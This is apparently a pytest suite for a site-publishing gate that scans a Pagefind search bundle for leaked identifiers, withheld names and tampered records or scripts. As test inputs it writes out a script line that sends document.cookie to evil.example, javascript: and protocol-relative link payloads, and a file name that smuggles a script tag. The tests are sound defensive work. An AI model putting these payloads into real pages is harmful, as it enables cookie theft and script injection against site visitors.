"""The gate reads the Pagefind search bundle like every other file: its records, its binary index words,
its filters; only the pinned Pagefind's own program files are taken as they are."""

from __future__ import annotations

import gzip
import io
import json

import cbor2
import pytest

from generator.gate.identifiers import check_identifiers
from generator.gate.markup import check_markup, markup_problems
from generator.gate.sitefiles import SiteFiles
from generator.gate.withheld_values import check_withheld_values
from generator.search.pagefind import BUNDLE, bundle_languages, index_site, program_files

SSN = "123-45-6789"
WITHHELD = "Beta Secretname"
FACETS = (
    '<div hidden data-pagefind-ignore="index"><span data-pagefind-filter="kind">Release</span>'
    '<span data-pagefind-filter="agency">U.S. Department of Justice</span>'
    '<span data-pagefind-meta="date">2021-07-15</span><span data-pagefind-sort="date">2021-07-15</span></div>'
)


def page(body: str) -> str:
    return f'<!doctype html><html lang="en"><head><title>t</title></head><body><article>{body}</article></body></html>'


@pytest.fixture
def site(tmp_path):
    """A two-page site indexed by the real Pagefind."""
    root = tmp_path / "site"
    for name, body in {
        "releases/a/index.html": f"<h1>Release A</h1>{FACETS}<p>Docket 4:13-cr-00482.</p>",
        "about/index.html": "<h1>About</h1><p>Who runs this room.</p>",
    }.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(page(body), encoding="utf-8")
    index_site(root, ["releases/a/index.html", "about/index.html"])
    return root


def files(root) -> SiteFiles:
    return SiteFiles(root, shipped=program_files(bundle_languages(root)))


def pagefind_file(value: object) -> bytes:
    return gzip.compress(b"pagefind_dcd" + (json.dumps(value).encode() if isinstance(value, dict) else value), mtime=0)


def add_record(root, record: dict[str, object], name: str = "en_0000000") -> None:
    (root / BUNDLE / "fragment" / f"{name}.pf_fragment").write_bytes(pagefind_file(record))


def markup_findings(root) -> list[str]:
    return [str(finding) for finding in check_markup(files(root))]


def test_pagefind_output_is_read_whole_and_passes(site, room):
    read = files(site)
    names = {file.name for file in read.files}
    # Its program files are the pinned Pagefind's own, so they are not read; every record and index is.
    assert f"{BUNDLE}/pagefind.js" not in names
    assert any(name.endswith(".pf_fragment (decompressed) (search data)") for name in names)
    assert any(name.endswith(".pf_index (decompressed) (search words)") for name in names)
    assert any(name.endswith(".pf_filter (decompressed) (search words)") for name in names)
    assert markup_findings(site) == []
    assert check_identifiers(room.load(), read) == []
    # Only the two scripts the search page loads are published, not Pagefind's ready-made interfaces.
    assert sorted(p.name for p in (site / BUNDLE).glob("*.js")) == ["pagefind-worker.js", "pagefind.js"]


def test_a_record_is_checked_against_its_page(site, room):
    add_record(site, {"url": "/about/", "content": f"Call about SSN {SSN}.", "meta": {"title": "About"}})
    found = check_identifiers(room.load(), files(site))
    assert [(f.place, f.rule, f.detail) for f in found] == [
        ("search record (page 'about/')", "personal-identifier", "ssn (text of 11 characters)")
    ]


def test_withheld_values_are_found_in_the_binary_index_words(site):
    index = next((site / BUNDLE / "index").iterdir())
    words = ["beta", "secretname", "release"]
    index.write_bytes(pagefind_file(cbor2.dumps([words, {"word": WITHHELD}])))
    found = check_withheld_values({"a/people": [WITHHELD]}, files(site))
    assert [f.file for f in found] == [f"{BUNDLE}/index/{index.name} (decompressed) (search words)"]


@pytest.mark.parametrize(
    ("record", "expected"),
    [
        ({"url": "javascript:alert(1)"}, "link with scheme 'javascript' as the entry's location"),
        ({"url": "//evil.example/x/"}, "link with scheme 'none (//host)' as the entry's location"),
        (
            {"url": "/a/", "anchors": [{"id": "x", "text": "t"}], "meta": {"url": "https://evil.example/"}},
            "a search meta key no template writes",
        ),
        ({"url": "/a/", "filters": {"script": ["x"]}}, "a search filters key no template writes"),
        ({"url": "/a/", "filters": ["not a mapping"]}, "a search filters key no template writes"),
        ({"content": "no url"}, "not a search record as Pagefind writes it"),
    ],
)
def test_a_hostile_record_is_a_finding(site, record, expected):
    add_record(site, record)
    assert any(expected in finding for finding in markup_findings(site))


def test_a_record_that_is_not_json_is_read_as_text_and_is_a_finding(site, room):
    (site / BUNDLE / "fragment" / "en_1111111.pf_fragment").write_bytes(pagefind_file(f'{{"url": "{SSN}'.encode()))
    assert any("not a search record as Pagefind writes it" in finding for finding in markup_findings(site))
    assert [f.detail for f in check_identifiers(room.load(), files(site))] == ["ssn (text of 11 characters)"]


@pytest.mark.parametrize("name", ["pagefind.js", "pagefind-worker.js", "pagefind-ui.js"])
def test_a_script_that_is_not_the_pinned_pagefinds_is_a_finding(site, name):
    path = site / BUNDLE / name
    path.write_bytes(
        b'fetch("https://evil.example/?" + document.cookie);\n' + (path.read_bytes() if path.exists() else b"")
    )
    assert (
        f"{BUNDLE}/{name}: file: [active-content] a script that is not one of those allowed by hash"
        in markup_findings(site)
    )


def test_webassembly_that_is_not_the_pinned_pagefinds_is_a_finding(site):
    wasm = site / BUNDLE / "wasm.en.pagefind"
    data = gzip.decompress(wasm.read_bytes())
    wasm.write_bytes(gzip.compress(data + SSN.encode(), mtime=0))
    assert (
        f"{BUNDLE}/wasm.en.pagefind (decompressed): file: [unreadable-file] search program code that is not "
        "the pinned Pagefind's own; remove it"
    ) in markup_findings(site)


def test_a_language_name_that_is_not_one_is_not_run_and_its_file_is_read(site):
    strange = site / BUNDLE / 'wasm.en"><script>.pagefind'
    strange.write_bytes((site / BUNDLE / "wasm.en.pagefind").read_bytes())
    assert bundle_languages(site) == ("en", "unknown")
    assert any(
        finding.startswith(f"{BUNDLE}/wasm.en") and "not the pinned" in finding for finding in markup_findings(site)
    )


def test_an_index_that_is_not_cbor_is_a_finding(site):
    (site / BUNDLE / "index" / "en_2222222.pf_index").write_bytes(pagefind_file(b"\x81" * 500 + b"\xff\x00"))
    assert any("en_2222222.pf_index" in f and "unreadable-file" in f for f in markup_findings(site))


def test_text_in_a_gzip_header_is_read(tmp_path, room):
    root = tmp_path / "site"
    root.mkdir()
    out = io.BytesIO()
    with gzip.GzipFile(filename=f"ssn {SSN}.txt", mode="wb", fileobj=out, mtime=0) as stream:
        stream.write(b"harmless")
    (root / "notes.txt.gz").write_bytes(out.getvalue())
    found = check_identifiers(room.load(), SiteFiles(root))
    assert [(f.file, f.detail) for f in found] == [("notes.txt.gz (gzip header)", "ssn (text of 11 characters)")]


@pytest.mark.parametrize(
    ("markup", "problem"),
    [
        ('<span data-pagefind-filter="kind">Release</span>', None),
        ('<div hidden data-pagefind-ignore="index"></div>', None),
        ('<span data-pagefind-meta="url">https://evil.example/</span>', "with a value no template writes"),
        ('<span data-pagefind-meta="image">x.png</span>', "with a value no template writes"),
        ('<span data-pagefind-filter="kind:Release, agency:x">y</span>', "with a value no template writes"),
        ('<div data-pagefind-ignore="all"></div>', "with a value no template writes"),
        ("<div data-pagefind-body></div>", "is not allowed"),
        ('<img data-pagefind-index-attrs="alt">', "is not allowed"),
    ],
)
def test_only_our_search_facets_are_allowed_in_a_page(markup, problem):
    problems = markup_problems(page(markup))
    assert problems == [] if problem is None else any(problem in p for p in problems)
